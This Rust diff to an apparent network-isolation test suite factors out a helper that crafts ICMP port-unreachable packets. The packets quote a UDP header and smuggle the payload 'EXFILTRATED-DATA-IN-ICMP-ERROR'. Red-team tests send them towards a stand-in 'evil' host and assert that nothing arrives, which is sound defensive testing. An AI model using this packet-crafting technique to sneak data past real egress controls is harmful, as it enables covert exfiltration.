@@ -208,6 +208,22 @@ fn checksum(parts: &[&[u8]]) -> u16 {
     !(sum as u16)
 }
 
+/// An ICMP port unreachable quoting a UDP packet `from`:`sport` -> `to`:`dport` (as if
+/// `to` could not deliver it), followed by data to smuggle; its checksum set.
+fn icmp_unreachable_quoting(from: [u8; 4], sport: u16, to: [u8; 4], dport: u16) -> Vec<u8> {
+    let mut msg = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
+    msg.extend_from_slice(&[0x45, 0, 0, 30, 0, 0, 0, 0, 64, 17, 0, 0]);
+    msg.extend_from_slice(&from);
+    msg.extend_from_slice(&to);
+    msg.extend_from_slice(&sport.to_be_bytes());
+    msg.extend_from_slice(&dport.to_be_bytes());
+    msg.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
+    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMP-ERROR");
+    let ck = checksum(&[&msg[..]]);
+    msg[2..4].copy_from_slice(&ck.to_be_bytes());
+    msg
+}
+
 /// Sends `packet` (a whole IP packet, header included) from `ns` towards `to`.
 fn send_packet(ns: &Netns, to: IpAddr, packet: &[u8]) {
     let v4 = to.is_ipv4();
@@ -715,16 +731,7 @@ fn redteam_crafted_related_icmp_error_to_denied_destination() {
     let sport = sock.local_addr().unwrap().port();
     let web4 = env.web().ipv4().octets();
     // ICMP port unreachable quoting the reply packet api:9000 -> web:sport, sent to evil.
-    let mut msg = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
-    msg.extend_from_slice(&[0x45, 0, 0, 30, 0, 0, 0, 0, 64, 17, 0, 0]);
-    msg.extend_from_slice(&[192, 0, 2, 10]);
-    msg.extend_from_slice(&web4);
-    msg.extend_from_slice(&9000u16.to_be_bytes());
-    msg.extend_from_slice(&sport.to_be_bytes());
-    msg.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
-    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMP-ERROR");
-    let ck = checksum(&[&msg[..]]);
-    msg[2..4].copy_from_slice(&ck.to_be_bytes());
+    let msg = icmp_unreachable_quoting([192, 0, 2, 10], 9000, web4, sport);
     send_raw(env.web(), 1, ip("203.0.113.66"), &msg);
     assert_eq!(watch.count("evil"), 0, "{}", env.diag());
 }
@@ -754,16 +761,7 @@ fn redteam_icmp_error_related_to_redirected_dns_does_not_leave() {
     assert_eq!(b.get(3).map(|f| f & 0x0f), Some(REFUSED), "{:?}", &b[..n]);
     let sport = sock.local_addr().unwrap().port();
     // ICMP port unreachable quoting that answer (203.0.113.66:53 -> web:sport).
-    let mut msg = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
-    msg.extend_from_slice(&[0x45, 0, 0, 30, 0, 0, 0, 0, 64, 17, 0, 0]);
-    msg.extend_from_slice(&[203, 0, 113, 66]);
-    msg.extend_from_slice(&env.web().ipv4().octets());
-    msg.extend_from_slice(&53u16.to_be_bytes());
-    msg.extend_from_slice(&sport.to_be_bytes());
-    msg.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
-    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMP-ERROR");
-    let ck = checksum(&[&msg[..]]);
-    msg[2..4].copy_from_slice(&ck.to_be_bytes());
+    let msg = icmp_unreachable_quoting([203, 0, 113, 66], 53, env.web().ipv4().octets(), sport);
     send_raw(env.web(), 1, ip("203.0.113.66"), &msg);
     assert_eq!(watch.count("evil"), 0, "{}", env.diag());
 }
